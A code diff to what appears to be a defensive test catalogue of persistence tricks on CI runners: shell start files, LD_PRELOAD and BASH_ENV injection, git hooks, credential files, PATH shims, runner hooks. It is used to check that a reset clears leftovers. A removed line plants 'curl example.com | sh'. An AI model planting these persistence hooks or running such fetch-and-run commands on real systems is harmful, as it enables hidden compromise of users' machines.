@@ -46,9 +46,13 @@ class Attack:
     why: str = ""
 
 
-def file(name: str, what: str, path: str, content: str = "planted", mode: str = "644") -> Attack:
-    plant = f"mkdir -p \"$(dirname {path})\" && printf '%s\\n' '{content}' >{path} && chmod {mode} {path}"
-    return Attack(name=name, what=what, plant=plant, look=f"test -e {path}")
+def file(name: str, what: str, *paths: str, content: str = "planted", mode: str = "644") -> Attack:
+    every = " ".join(paths)
+    plant = (
+        f'for path in {every}; do mkdir -p "$(dirname "$path")"; '
+        f"printf '%s\\n' '{content}' >\"$path\"; chmod {mode} \"$path\"; done"
+    )
+    return Attack(name=name, what=what, plant=plant, look=" || ".join(f"test -e {path}" for path in paths))
 
 
 def process(name: str, what: str, plant: str, command: str) -> Attack:
@@ -119,11 +123,16 @@ _ACL = (
 )
 
 IN_HOME = (
-    file("shell start file", "`.bashrc` with an alias and `LD_PRELOAD`", "~/.bashrc", "export LD_PRELOAD=/tmp/x.so"),
-    file("login file", "`.profile`, `.bash_login`", "~/.bash_login", "curl example.com | sh"),
-    file("session environment", "`.pam_environment`, `environment.d`: `BASH_ENV`", "~/.config/environment.d/x.conf"),
+    file("shell start file", "`.bashrc` with `LD_PRELOAD`", "~/.bashrc", content="export LD_PRELOAD=/tmp/x.so"),
+    file("login file", "`.profile`, `.bash_login`", "~/.profile", "~/.bash_login"),
+    file(
+        "session environment",
+        "`.pam_environment`, `environment.d`: `BASH_ENV`",
+        "~/.pam_environment",
+        "~/.config/environment.d/x.conf",
+    ),
     file("git configuration", "`.gitconfig`: `core.hooksPath`, `credential.helper`", "~/.gitconfig"),
-    file("git hooks of the user", "`.config/git/hooks` and a template folder", "~/.config/git/hooks/post-checkout"),
+    file("git hooks of the user", "`.config/git/hooks`", "~/.config/git/hooks/post-checkout"),
     file("git credentials", "`.git-credentials`", "~/.git-credentials"),
     file("npm configuration", "`.npmrc`: another registry", "~/.npmrc"),
     file("pip configuration", "`pip.conf`: another index", "~/.config/pip/pip.conf"),
@@ -134,7 +143,14 @@ IN_HOME = (
     file("ssh configuration", "`.ssh/config`: `ProxyCommand`", "~/.ssh/config", mode="600"),
     file("netrc", "`.netrc`", "~/.netrc", mode="600"),
     file("docker credentials", "`.docker/config.json`: a credential helper", "~/.docker/config.json"),
-    file("cloud credentials", "`.aws/credentials`, `.kube/config`, `gh`", "~/.aws/credentials", mode="600"),
+    file(
+        "cloud credentials",
+        "`.aws/credentials`, `.kube/config`, those of `gh`",
+        "~/.aws/credentials",
+        "~/.kube/config",
+        "~/.config/gh/hosts.yml",
+        mode="600",
+    ),
     file("shim in the user's PATH", "`~/.local/bin/git`", "~/.local/bin/git", mode="755"),
     file(
         "systemd user unit", "a unit in `.config/systemd/user`", "~/.config/systemd/user/default.target.wants/x.service"
@@ -153,8 +169,8 @@ IN_HOME = (
     ),
 )
 IN_THE_RUNNER = (
-    file("variables of the runner", "`.env`: `LD_PRELOAD`, `BASH_ENV`", f"{RUNNER}/.env", "PLANTED=planted"),
-    file("path of the runner", "`.path`: a folder of the job first", f"{RUNNER}/.path", "/tmp/bin"),
+    file("variables of the runner", "`.env`: `BASH_ENV`", f"{RUNNER}/.env", content="BASH_ENV=/tmp/x"),
+    file("path of the runner", "`.path`: a folder of the job first", f"{RUNNER}/.path", content="/tmp/bin"),
     file("registration", "`.credentials` of the run kept aside", f"{RUNNER}/.credentials.kept"),
     file("job hook", "a script for `ACTIONS_RUNNER_HOOK_JOB_STARTED`", f"{RUNNER}/hooks/started.sh", mode="755"),
     file("shim in the runner", "`externals/node20/bin/node`", f"{RUNNER}/externals/node20/bin/node", mode="755"),
@@ -441,6 +457,14 @@ NOT_HERE = tuple(
             ),
         ),
         (
+            "hard links where the kernel does not forbid them",
+            "`fs.protected_hardlinks = 0`",
+            (
+                "the kernel is everybody's here. The reset looks at the setting: such a machine is ended after a run "
+                "(`tests/unit/agent/test_leftovers.py`)"
+            ),
+        ),
+        (
             "cron and at that fire",
             "while the reset runs",
             (
@@ -466,7 +490,7 @@ NOT_HERE = tuple(
             "processes and files of user ids that `/etc/subuid` gives",
             (
                 "the user that the bootstrap makes has none; played in `tests/unit/agent/test_leftovers.py` and "
-                "`test_processes.py`"
+                "`test_job_user.py`"
             ),
         ),
     )
